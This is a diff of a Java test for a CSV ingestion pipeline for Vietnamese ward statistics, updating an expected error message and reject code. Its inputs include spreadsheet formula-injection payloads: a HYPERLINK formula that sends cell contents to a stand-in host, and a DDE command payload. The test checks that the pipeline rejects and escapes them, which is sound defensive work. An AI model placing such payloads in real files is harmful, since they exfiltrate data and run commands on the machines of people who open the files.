@@ -64,7 +64,7 @@ class BadCellsTest extends PipelineTest {
                         "7 ward_name: ô có ký tự điều khiển U+0007 ở vị trí 7 (hiện là ␀ … ␟): hãy xóa ký tự đó rồi nạp lại",
                         "8 ward_code: ô có ký tự điều khiển U+0000 ở vị trí 4 (hiện là ␀ … ␟): hãy xóa ký tự đó rồi nạp lại",
                         "9 period: phường “phuong-ba-dinh” được thành lập từ ngày 01/07/2025: số liệu tháng 01/2024 thuộc đơn vị tiền thân dien-bien, quan-thanh",
-                        "10 ward_code: không có đơn vị mã “=HYPERLINK(\"http://x.example/?\"&A1;\"bấm\")” trong danh mục đơn vị",
+                        "10 ward_code: không có phường tên “=HYPERLINK(\"http://x.example/?\"&A1;\"bấm\")”",
                         "11 social_order_crimes: “+cmd|' /C calc'!A0” không phải là số");
         // what the user wrote, stored and shown with NUL visible
         assertThat(jdbc.sql("select cell_value || ' | ' || raw_row from ingest_reject where row_number = 8").query(String.class).single())
@@ -88,8 +88,8 @@ class BadCellsTest extends PipelineTest {
 
         List<String> lines = Files.readAllLines(result.rejectFile(), StandardCharsets.UTF_8);
         assertThat(lines).hasSize(10);
-        assertThat(lines.get(8)).isEqualTo("o-xau.csv,,10,ward_code,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")\",ward.unknown,"
-                + "\"không có đơn vị mã “=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")” trong danh mục đơn vị\","
+        assertThat(lines.get(8)).isEqualTo("o-xau.csv,,10,ward_code,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")\",ward.unknown-name,"
+                + "\"không có phường tên “=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"bấm\"\")”\","
                 + "\"\"\"=HYPERLINK(\"\"\"\"http://x.example/?\"\"\"\"&A1;\"\"\"\"bấm\"\"\"\")\"\",Phường,2024-01,1,100,,\"");
         assertThat(lines.get(9)).startsWith("o-xau.csv,,11,social_order_crimes,'+cmd|' /C calc'!A0,value.not-a-number,");
         assertThat(lines.get(6)).startsWith("o-xau.csv,,8,ward_code,duc␀xuan,cell.control-character,");
